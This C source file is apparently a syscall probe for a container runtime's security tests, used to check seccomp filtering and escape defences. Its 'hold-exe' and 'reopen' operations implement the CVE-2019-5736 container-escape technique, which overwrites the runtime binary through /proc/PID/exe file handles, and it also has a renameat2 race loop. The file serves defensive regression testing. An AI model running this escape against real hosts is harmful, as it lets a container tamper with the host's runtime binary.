/*
 * syscall_probe: a static test tool copied into the busybox rootfs of the
 * security integration tests.  It makes the system calls a test names, by
 * number (raw syscall(2), int $0x80, x32 numbers), and prints one line per
 * operation:
 *
 *     OP=0            the call succeeded (whatever value it returned)
 *     OP=-EPERM       it failed; the errno's name (-E<n> when unnamed)
 *     OP=trapped:NR   it raised SIGSYS (SCMP_ACT_TRAP) for syscall NR
 *
 * where OP is the operation exactly as given on the command line.  A call
 * the kernel kills the process for (SCMP_ACT_KILL*) ends the output there:
 * the caller sees the exit status (128 + SIGSYS from a shell).
 *
 * Operations (numbers in C notation: 0x.., 0.. octal, decimal):
 *   getpid getppid read write keyctl ptrace dumpable
 *   ids                    ids=RUID,EUID,CAPEFF (CapEff as in /proc/self/status)
 *   session-keyring        session-keyring=DESCRIPTION (the name of the session
 *                          keyring the process is in, KEYCTL_DESCRIBE)
 *   sc:NAME[:A0[:A1...]]   a syscall from the table below with up to 6 args
 *   nr:NR[:A0...]          any x86_64 syscall number
 *   x32:NR                 NR | __X32_SYSCALL_BIT, no args
 *   i386:NR[:EBX]          the i386 ABI through int $0x80
 *   personality:P  unshare:FLAGS  mount:TARGET  mkdir:PATH[:MODE]
 *   clone:FLAGS    clone3[:FLAGS] (the child exits at once, the parent reaps)
 *   open:PATH[:r|w|p]      open read-only, write-only (no O_CREAT/O_TRUNC)
 *                          or O_PATH
 *   reopen:PATH            O_PATH, then open /proc/self/fd/N for writing
 *                          (the CVE-2019-5736 move)
 *   cwd                    print the working directory
 *   sleep:MS               nanosleep (for the notify tests)
 *   hold-exe:FIFO:N:DIR    the CVE-2019-5736 attack with CAP_SYS_PTRACE, on
 *                          the runtime's processes in this pid namespace (those
 *                          whose cmdline names minirun):
 *                          1. N times a new one is seen: open FIFO for writing
 *                             (the image's /etc/passwd, made a FIFO: exec's
 *                             process blocks reading it for HOME), hold
 *                             /proc/PID/exe of each (O_PATH), write a passwd
 *                             line, close;
 *                          2. once DIR/scan exists, hold those visible then
 *                             (a created init waiting in this pid namespace),
 *                             then create DIR/scanned;
 *                          3. once DIR/go exists (no runtime process runs any
 *                             more), reopen each held file through
 *                             /proc/self/fd/N for appending and append a line.
 *                          Prints hold:PID=R, exe:PID=TARGET, reopen:PID=R,
 *                          write:PID=R.
 *   exchange:A:B:STOP      renameat2(A, B, RENAME_EXCHANGE) in a loop until
 *                          the file STOP exists (at most 10^8 times), ending
 *                          with A and B as they began; prints OP=0 and then
 *                          swaps=N (a host-side race helper)
 *
 * A SIGUSR1 handler (SA_RESTART, does nothing) is installed so that tests
 * can interrupt a call without killing the probe.
 *
 * Build: gcc -static -O2 -o syscall_probe syscall_probe.c
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <setjmp.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#ifndef SYS_clone3
#define SYS_clone3 435
#endif

static const char *current_op = "";
static sigjmp_buf trap_jump;
static volatile sig_atomic_t trapped_nr = -1;

static void on_sigsys(int sig, siginfo_t *info, void *ctx)
{
    (void)sig;
    (void)ctx;
    trapped_nr = info->si_syscall;
    siglongjmp(trap_jump, 1);
}

static void on_usr1(int sig)
{
    (void)sig;
}

static unsigned long num(const char *text)
{
    return strtoull(text, NULL, 0);
}

static void report(long result, int err)
{
    if (result >= 0) {
        printf("%s=0\n", current_op);
    } else {
        const char *name = strerrorname_np(err);
        if (name)
            printf("%s=-%s\n", current_op, name);
        else
            printf("%s=-E%d\n", current_op, err);
    }
    fflush(stdout);
}

/* a raw syscall result (-errno in the register) to report() */
static void report_raw(long ret)
{
    if (ret < 0 && ret > -4096)
        report(-1, (int)-ret);
    else
        report(0, 0);
}

struct named { const char *name; long nr; };
static const struct named table[] = {
    {"read", SYS_read}, {"write", SYS_write}, {"getpid", SYS_getpid},
    {"getppid", SYS_getppid}, {"getuid", SYS_getuid}, {"getpriority", SYS_getpriority},
    {"lseek", SYS_lseek}, {"dup3", SYS_dup3}, {"mkdir", SYS_mkdir},
    {"unshare", SYS_unshare}, {"keyctl", SYS_keyctl}, {"ptrace", SYS_ptrace},
    {"personality", SYS_personality}, {"uname", SYS_uname}, {"umask", SYS_umask},
    {"sethostname", SYS_sethostname}, {"chdir", SYS_chdir}, {"sync", SYS_sync},
    {"getcwd", SYS_getcwd}, {"setns", SYS_setns}, {"acct", SYS_acct},
    {"gettid", SYS_gettid}, {"sched_yield", SYS_sched_yield},
    {NULL, 0},
};

static long lookup(const char *name)
{
    for (const struct named *t = table; t->name; t++)
        if (strcmp(t->name, name) == 0)
            return t->nr;
    fprintf(stderr, "syscall_probe: unknown syscall %s\n", name);
    exit(2);
}

/* split "a:b:c" in place; returns the number of fields */
static int fields(char *text, char **out, int max)
{
    int n = 0;
    char *save = NULL;
    for (char *p = strtok_r(text, ":", &save); p && n < max; p = strtok_r(NULL, ":", &save))
        out[n++] = p;
    return n;
}

static long raw6(long nr, char **args, int nargs)
{
    unsigned long a[6] = {0, 0, 0, 0, 0, 0};
    for (int i = 0; i < nargs && i < 6; i++)
        a[i] = num(args[i]);
    return syscall(nr, a[0], a[1], a[2], a[3], a[4], a[5]);
}

static long i386_call(long nr, unsigned long ebx)
{
    long ret;
    __asm__ volatile("int $0x80"
                     : "=a"(ret)
                     : "a"(nr), "b"(ebx), "c"(0), "d"(0), "S"(0), "D"(0)
                     : "memory");
    /* the i386 ABI returns a 32-bit value */
    return (long)(int)ret;
}

static long x32_call(long nr)
{
    long ret;
    __asm__ volatile("syscall"
                     : "=a"(ret)
                     : "a"(nr | 0x40000000L)
                     : "rcx", "r11", "memory");
    return ret;
}

static void reap(long pid)
{
    int status;
    if (pid > 0)
        waitpid((pid_t)pid, &status, __WALL);
}

/* -- hold-exe ------------------------------------------------------------ */

#define MAX_HELD 64
static int held_pid[MAX_HELD], held_fd[MAX_HELD], seen_pid[MAX_HELD];
static int nheld, nseen;

static void report_named(const char *what, int pid, long result, int err)
{
    char op[64];
    const char *was = current_op;
    snprintf(op, sizeof op, "%s:%d", what, pid);
    current_op = op;
    report(result, err);
    current_op = was;
}

static int seen(int pid)
{
    for (int i = 0; i < nseen; i++)
        if (seen_pid[i] == pid)
            return 1;
    return 0;
}

/* open /proc/PID/exe (O_PATH) of every runtime process not seen yet */
static void hold_runtime_exes(void)
{
    DIR *proc = opendir("/proc");
    struct dirent *entry;
    while (proc && (entry = readdir(proc))) {
        int pid = atoi(entry->d_name);
        char path[64], cmdline[8192], target[4096];
        if (pid <= 0 || pid == getpid() || seen(pid) || nseen >= MAX_HELD)
            continue;
        snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
        int fd = open(path, O_RDONLY | O_CLOEXEC);
        if (fd < 0)
            continue;
        ssize_t len = read(fd, cmdline, sizeof cmdline - 1);
        close(fd);
        if (len <= 0)
            continue;
        for (ssize_t i = 0; i < len; i++)
            if (!cmdline[i])
                cmdline[i] = ' ';
        cmdline[len] = 0;
        if (!strstr(cmdline, "minirun"))
            continue;
        seen_pid[nseen++] = pid;
        snprintf(path, sizeof path, "/proc/%d/exe", pid);
        fd = open(path, O_PATH | O_CLOEXEC);
        report_named("hold", pid, fd, errno);
        if (fd < 0)
            continue;
        snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
        len = readlink(path, target, sizeof target - 1);
        target[len > 0 ? len : 0] = 0;
        printf("exe:%d=%s\n", pid, target);
        fflush(stdout);
        held_pid[nheld] = pid;
        held_fd[nheld++] = fd;
    }
    if (proc)
        closedir(proc);
}

static int wait_for_file(const char *dir, const char *name)
{
    char path[4096];
    struct timespec tick = {0, 10 * 1000000L};
    snprintf(path, sizeof path, "%s/%s", dir, name);
    for (int i = 0; i < 12000; i++) {      /* a hang guard: 120 s */
        if (access(path, F_OK) == 0)
            return 0;
        nanosleep(&tick, NULL);
    }
    printf("timeout:%s=-ETIME\n", name);
    return -1;
}

static void hold_exe(const char *fifo, int wanted, const char *dir)
{
    static const char line[] = "root:x:0:0:root:/root:/bin/sh\n";
    char path[4096];
    signal(SIGPIPE, SIG_IGN);   /* a reader gone before the line is written */
    while (nseen < wanted) {
        int w = open(fifo, O_WRONLY | O_CLOEXEC);   /* until exec's process opens it */
        if (w < 0) {
            report_named("fifo", 0, -1, errno);
            return;
        }
        hold_runtime_exes();    /* it is blocked reading: in the pid namespace, before execve */
        if (write(w, line, sizeof line - 1) < 0)
            ;
        close(w);
    }
    if (wait_for_file(dir, "scan"))
        return;
    hold_runtime_exes();
    snprintf(path, sizeof path, "%s/scanned", dir);
    close(open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0644));
    if (wait_for_file(dir, "go"))
        return;
    for (int i = 0; i < nheld; i++) {
        snprintf(path, sizeof path, "/proc/self/fd/%d", held_fd[i]);
        int w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
        report_named("reopen", held_pid[i], w, errno);
        if (w >= 0) {
            static const char mark[] = "\n# appended from inside a container\n";
            report_named("write", held_pid[i], write(w, mark, sizeof mark - 1), errno);
            close(w);
        }
    }
}

static void do_op(char *op)
{
    char buf[4096];
    char *f[8];
    strncpy(buf, op, sizeof buf - 1);
    buf[sizeof buf - 1] = 0;
    int n = fields(buf, f, 8);
    const char *name = n ? f[0] : "";
    long r;

    if (!strcmp(name, "getpid")) {
        r = syscall(SYS_getpid);
        report(r, errno);
    } else if (!strcmp(name, "getppid")) {
        r = syscall(SYS_getppid);
        report(r, errno);
    } else if (!strcmp(name, "read")) {
        char c;
        r = syscall(SYS_read, 0, &c, 0);
        report(r, errno);
    } else if (!strcmp(name, "write")) {
        r = syscall(SYS_write, 1, "", 0);
        report(r, errno);
    } else if (!strcmp(name, "keyctl")) {
        /* KEYCTL_GET_KEYRING_ID of the session keyring, without creating one */
        r = syscall(SYS_keyctl, 0, -3L, 0);
        report(r, errno);
    } else if (!strcmp(name, "session-keyring")) {
        /* KEYCTL_DESCRIBE: "type;uid;gid;perm;description" */
        char buf[512];
        r = syscall(SYS_keyctl, 6, -3L, buf, sizeof(buf) - 1);
        if (r < 0) {
            report(r, errno);
        } else {
            const char *description;
            buf[r < (long)sizeof(buf) ? r : (long)sizeof(buf) - 1] = 0;
            description = strrchr(buf, ';');
            printf("%s=%s\n", current_op, description ? description + 1 : buf);
        }
    } else if (!strcmp(name, "ptrace")) {
        /* PTRACE_PEEKDATA on a pid that cannot exist: ESRCH when allowed */
        errno = 0;
        r = syscall(SYS_ptrace, 2, 0x3fffffffL, 0, 0);
        report(r, errno);
    } else if (!strcmp(name, "dumpable")) {
        printf("%s=%d\n", op, prctl(PR_GET_DUMPABLE, 0, 0, 0, 0));
        fflush(stdout);
    } else if (!strcmp(name, "sc") && n >= 2) {
        r = raw6(lookup(f[1]), f + 2, n - 2);
        report(r, errno);
    } else if (!strcmp(name, "nr") && n >= 2) {
        r = raw6((long)num(f[1]), f + 2, n - 2);
        report(r, errno);
    } else if (!strcmp(name, "x32") && n >= 2) {
        report_raw(x32_call((long)num(f[1])));
    } else if (!strcmp(name, "i386") && n >= 2) {
        report_raw(i386_call((long)num(f[1]), n >= 3 ? num(f[2]) : 0));
    } else if (!strcmp(name, "personality") && n >= 2) {
        r = syscall(SYS_personality, num(f[1]));
        report(r, errno);
    } else if (!strcmp(name, "unshare") && n >= 2) {
        r = syscall(SYS_unshare, num(f[1]));
        report(r, errno);
    } else if (!strcmp(name, "mount") && n >= 2) {
        r = syscall(SYS_mount, "probe", f[1], "tmpfs", 0UL, "size=16k");
        report(r, errno);
    } else if (!strcmp(name, "mkdir") && n >= 2) {
        r = syscall(SYS_mkdir, f[1], n >= 3 ? num(f[2]) : 0755);
        report(r, errno);
    } else if (!strcmp(name, "clone") && n >= 2) {
        r = syscall(SYS_clone, num(f[1]) | SIGCHLD, 0UL, NULL, NULL, 0UL);
        if (r == 0)
            syscall(SYS_exit_group, 0);
        int err = errno;
        reap(r);
        report(r, err);
    } else if (!strcmp(name, "clone3")) {
        uint64_t args[8] = {0};
        args[0] = n >= 2 ? num(f[1]) : 0;   /* flags */
        args[4] = SIGCHLD;                  /* exit_signal */
        r = syscall(SYS_clone3, args, sizeof args);
        if (r == 0)
            syscall(SYS_exit_group, 0);
        int err = errno;
        reap(r);
        report(r, err);
    } else if (!strcmp(name, "open") && n >= 2) {
        int flags = O_RDONLY;
        if (n >= 3 && f[2][0] == 'w')
            flags = O_WRONLY;
        else if (n >= 3 && f[2][0] == 'p')
            flags = O_PATH;
        r = open(f[1], flags | O_CLOEXEC);
        report(r, errno);
        if (r >= 0)
            close((int)r);
    } else if (!strcmp(name, "reopen") && n >= 2) {
        int fd = open(f[1], O_PATH | O_CLOEXEC);
        if (fd < 0) {
            report(-1, errno);
        } else {
            char path[64];
            snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
            r = open(path, O_WRONLY | O_CLOEXEC);
            report(r, errno);
            if (r >= 0)
                close((int)r);
            close(fd);
        }
    } else if (!strcmp(name, "ids")) {
        uid_t ruid, euid, suid;
        char line[256], capeff[64] = "?";
        FILE *status = fopen("/proc/self/status", "re");
        while (status && fgets(line, sizeof line, status))
            if (sscanf(line, "CapEff: %63s", capeff) == 1)
                break;
        if (status)
            fclose(status);
        getresuid(&ruid, &euid, &suid);
        printf("%s=%u,%u,%s\n", op, ruid, euid, capeff);
        fflush(stdout);
    } else if (!strcmp(name, "cwd")) {
        char path[4096];
        if (getcwd(path, sizeof path))
            printf("%s=%s\n", op, path);
        else
            report(-1, errno);
        fflush(stdout);
    } else if (!strcmp(name, "sleep") && n >= 2) {
        struct timespec ts = {(time_t)(num(f[1]) / 1000), (long)(num(f[1]) % 1000) * 1000000L};
        nanosleep(&ts, NULL);
        report(0, 0);
    } else if (!strcmp(name, "hold-exe") && n >= 4) {
        hold_exe(f[1], (int)num(f[2]), f[3]);
    } else if (!strcmp(name, "exchange") && n >= 4) {
        unsigned long swaps = 0;
        for (unsigned long i = 0; i < 100000000UL; i++) {
            if (i % 256 == 0 && swaps % 2 == 0 && access(f[3], F_OK) == 0)
                break;
            if (syscall(SYS_renameat2, AT_FDCWD, f[1], AT_FDCWD, f[2], 2 /* RENAME_EXCHANGE */) == 0)
                swaps++;
        }
        while (swaps % 2 && syscall(SYS_renameat2, AT_FDCWD, f[1], AT_FDCWD, f[2], 2) != 0)
            ;
        report(0, 0);
        printf("swaps=%lu\n", swaps);
        fflush(stdout);
    } else {
        fprintf(stderr, "syscall_probe: unknown operation %s\n", op);
        exit(2);
    }
}

int main(int argc, char **argv)
{
    struct sigaction sa;
    memset(&sa, 0, sizeof sa);
    sa.sa_sigaction = on_sigsys;
    sa.sa_flags = SA_SIGINFO | SA_NODEFER;
    sigaction(SIGSYS, &sa, NULL);
    memset(&sa, 0, sizeof sa);
    sa.sa_handler = on_usr1;
    sa.sa_flags = SA_RESTART;
    sigaction(SIGUSR1, &sa, NULL);

    for (int i = 1; i < argc; i++) {
        current_op = argv[i];
        if (sigsetjmp(trap_jump, 1)) {
            printf("%s=trapped:%d\n", current_op, (int)trapped_nr);
            fflush(stdout);
            continue;
        }
        do_op(argv[i]);
    }
    return 0;
}
